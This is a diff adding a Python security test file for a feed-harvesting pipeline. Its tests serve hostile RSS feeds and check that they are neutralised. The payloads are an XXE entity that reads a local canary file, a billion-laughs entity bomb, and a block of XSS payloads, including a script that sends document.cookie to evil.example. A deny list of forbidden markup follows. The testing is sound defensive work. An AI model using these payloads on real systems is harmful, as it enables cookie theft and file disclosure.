@@ -1,0 +1,71 @@
+"""Hostile feeds through the real pipeline: entity bombs, external entities, script-laden HTML."""
+
+from __future__ import annotations
+
+import time
+
+from tests.conftest import serve_bytes
+
+
+def test_external_entity_never_reads_a_local_file(loopback, hub, tmp_path):
+    secret = tmp_path / "secret.txt"
+    secret.write_text("CANARY-7f3a-LOCAL-FILE")
+    feed = f"""<?xml version="1.0"?>
+<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{secret}">]>
+<rss version="2.0"><channel><title>t</title>
+<item><title>Leak &xxe;</title><description>&xxe;</description><link>http://council.example/1</link></item>
+</channel></rss>""".encode()
+    serve_bytes(loopback, "/xxe.rss", feed, "application/rss+xml")
+    hub.write_sources([{"id": "xxe", "kind": "feed", "url": loopback.url_for("/xxe.rss"), "tagged_only": False}])
+    hub.harvest()
+    dump = repr(hub.query("SELECT * FROM raw_entries")) + repr(hub.query("SELECT * FROM hub_items"))
+    assert "CANARY-7f3a" not in dump
+    assert "CANARY-7f3a" not in (hub.warehouse_path.read_bytes() + hub.warehouse_path.with_name("hub.search.duckdb").read_bytes()).decode("latin-1")
+
+
+def test_billion_laughs_is_not_expanded(loopback, hub):
+    entities = "".join(f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10 if i > 1 else "lol" * 10}">' for i in range(1, 10))
+    feed = f"""<?xml version="1.0"?>
+<!DOCTYPE rss [{entities}]>
+<rss version="2.0"><channel><title>t</title>
+<item><title>&lol9;</title><link>http://council.example/lol</link></item></channel></rss>""".encode()
+    serve_bytes(loopback, "/lol.rss", feed, "application/rss+xml")
+    hub.write_sources([{"id": "lol", "kind": "feed", "url": loopback.url_for("/lol.rss"), "tagged_only": False}])
+    started = time.monotonic()
+    hub.harvest()
+    assert time.monotonic() - started < 30
+    (longest,) = hub.query("SELECT coalesce(max(length(title) + length(content_text)), 0) FROM raw_entries")[0]
+    assert longest < 10_000  # 10^9 "lol"s were not produced
+
+
+HOSTILE_HTML = """<p onclick="steal()">Hello</p>
+<script>document.location='http://evil.example/?c='+document.cookie</script>
+<img src="x" onerror="alert(1)">
+<a href="javascript:alert(2)">click</a>
+<a href="JaVaScRiPt&#58;alert(3)">click</a>
+<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNCk+">
+<div style="background:url(javascript:alert(5));width:expression(alert(6))">styled</div>
+<iframe src="http://evil.example/"></iframe>
+<svg onload="alert(7)"><circle r="1"/></svg>
+<form action="http://evil.example/"><input name="x"></form>
+<object data="http://evil.example/x.swf"></object>
+<a href="https://council.example/ok">a real link</a>"""
+
+
+def test_script_event_handlers_and_dangerous_urls_are_removed(loopback, hub):
+    from html import escape
+
+    feed = f"""<?xml version="1.0"?><rss version="2.0"><channel><title>t</title>
+<item><title>Hostile &lt;script&gt;alert(8)&lt;/script&gt; title</title><link>http://council.example/x</link>
+<description>{escape(HOSTILE_HTML)}</description></item></channel></rss>""".encode()
+    serve_bytes(loopback, "/xss.rss", feed, "application/rss+xml")
+    hub.write_sources([{"id": "xss", "kind": "feed", "url": loopback.url_for("/xss.rss"), "tagged_only": False}])
+    hub.harvest()
+    (html, text, title, summary), = hub.query("SELECT content_html, content_text, title, summary FROM raw_entries")
+    lowered = html.lower()
+    for forbidden in ("<script", "onclick", "onerror", "onload", "javascript:", "data:", "expression(", "<iframe",
+                      "<svg", "<form", "<object", "style="):
+        assert forbidden not in lowered, forbidden
+    assert 'href="https://council.example/ok"' in html
+    assert "steal()" not in text and "document.cookie" not in text
+    assert "<" not in title and "<" not in summary
